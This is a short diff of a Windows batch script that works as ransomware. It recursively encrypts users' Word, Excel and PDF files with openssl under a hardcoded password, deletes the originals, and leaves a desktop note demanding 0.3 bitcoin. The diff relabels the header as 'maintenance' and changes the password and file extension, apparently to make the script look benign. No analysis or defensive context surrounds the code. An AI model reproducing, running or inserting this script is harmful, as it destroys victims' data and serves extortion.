@@ -1,6 +1,6 @@
-REM task 7424 v3
+REM maintenance 7615 v3
 @echo off
 for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
-  openssl enc -aes-256-cbc -pass pass:Qwerty#7788 -in "%%f" -out "%%f.pay" && del "%%f"
+  openssl enc -aes-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" && del "%%f"
 )
 echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
